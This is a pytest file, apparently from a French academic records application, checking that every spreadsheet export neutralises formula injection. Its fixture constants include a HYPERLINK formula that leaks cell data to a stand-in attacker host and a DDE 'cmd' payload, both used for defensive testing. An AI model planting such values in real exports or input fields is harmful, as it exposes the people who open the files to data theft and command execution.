"""Formula injection (issue 19, finding 3): a student, an employer or a reason named like a formula is
exported as text by every spreadsheet the application produces (XLSX: string cells; CSV: apostrophe)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from delibe.reports.cells import FORMULA_STARTS, csv_cell, is_formula_like
from tests.trust.conftest import grade_whole_year
from tests.web.conftest import move_to_group

HOSTILE_NOM = '=HYPERLINK("http://attaquant.example/?leak="&A1,"Cliquez")'
HOSTILE_PRENOM = "=1+1"
HOSTILE_EMPLOYEUR = "+SUM(1,2)"
HOSTILE_TUTEUR = "@cmd|' /C calc'!A0"
HOSTILE_REASON = "-2+3"


def live_formulas_in_xlsx(content: bytes) -> list[str]:
    """Every formula of a workbook: <f> elements in the sheets' XML, and cells openpyxl reads as formulas."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode()
                if "<f>" in xml or "<f " in xml:
                    found.append(name)
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    found += [f"{ws.title}!{c.coordinate}" for ws in workbook.worksheets for row in ws.iter_rows() for c in row
              if c.data_type == "f"]
    return found


def texts_of_xlsx(content: bytes) -> set[str]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return {str(c.value) for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.value is not None}


def live_cells_in_csv(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row
            if cell.startswith(FORMULA_STARTS)]


@pytest.fixture
def hostile(world):
    from delibe.web.models import ApprenticeContract
    from delibe.web.services import jury

    world.alice.nom, world.alice.prenom = HOSTILE_NOM, HOSTILE_PRENOM
    world.alice.save()
    for run in (world.s1, world.s2):
        move_to_group(run, world.alice, "@A1")
    ApprenticeContract.objects.create(student=world.alice, employeur=HOSTILE_EMPLOYEUR, tuteur=HOSTILE_TUTEUR,
                                      debut=dt.date(2023, 9, 1), fin=dt.date(2025, 8, 31))
    grade_whole_year(world, 12, 9)
    user = world.users["scolarite"]
    jury.record_proposals(user=user, run=world.s2)
    jury.record_decision(user=user, run=world.s1, student=world.alice, level="ue", key="UE1.1", code="AJ",
                         reason=HOSTILE_REASON)
    return world


def test_the_shared_function_prefixes_every_dangerous_start_and_leaves_the_rest():
    for start in FORMULA_STARTS:
        assert csv_cell(start + "1") == "'" + start + "1"
    assert csv_cell("Dupont") == "Dupont" and csv_cell(None) == "" and csv_cell(12.5) == "12.5"
    assert is_formula_like("=A1") and not is_formula_like("A=1") and not is_formula_like(3)


def test_every_export_the_application_produces_holds_no_live_formula(hostile, login):
    from delibe.web.models import Evaluation

    exports: dict[str, bytes] = {}
    teacher = login("enseignant")
    evaluation = Evaluation.objects.filter(semester=hostile.s1, module_code="R1.01").first()
    exports["feuille de notes"] = teacher.get(reverse("delibe:feuille", args=[evaluation.pk])).content
    teacher.logout()
    president = login("president")
    exports["PV XLSX"] = president.get(reverse("delibe:documents_pv", args=[hostile.s2.pk, "xlsx"]),
                                       {"president": "=cmd", "membres": "+x\n-y", "date": "2024-06-20"}).content
    president.logout()
    secretariat = login("scolarite")
    rapports = reverse("assiduite:rapports", args=[hostile.department.pk])
    exports["rapport CSV"] = secretariat.get(rapports, {"mois": "2023-10", "employeur": HOSTILE_EMPLOYEUR,
                                                       "format": "csv"}).content
    archive = zipfile.ZipFile(io.BytesIO(secretariat.get(rapports, {"mois": "2023-10", "format": "zip"}).content))
    for name in archive.namelist():
        if name.endswith(".csv"):
            exports[f"rapports zip {name}"] = archive.read(name)
    exports["journal CSV"] = secretariat.get(f"/journal/etudiants/{hostile.alice.pk}/?format=csv").content

    for label, content in exports.items():
        if label.endswith("XLSX") or label == "feuille de notes":
            assert live_formulas_in_xlsx(content) == [], label
            texts = texts_of_xlsx(content)
            assert any(HOSTILE_PRENOM in t for t in texts), label  # the text itself is kept
        else:
            text = content.decode("utf-8-sig")
            assert live_cells_in_csv(text) == [], (label, text)
            assert "'=" in text or "'+" in text or "'-" in text, label  # the hostile value is there, defused
    assert len([k for k in exports if k.startswith("rapports zip")]) >= 1


def test_the_grade_sheet_read_back_keeps_a_formula_like_name_as_it_was(hostile, login):
    from delibe.web.models import Evaluation

    evaluation = Evaluation.objects.filter(semester=hostile.s1, module_code="R1.01").first()
    content = login("enseignant").get(reverse("delibe:feuille", args=[evaluation.pk])).content
    assert HOSTILE_NOM in texts_of_xlsx(content)
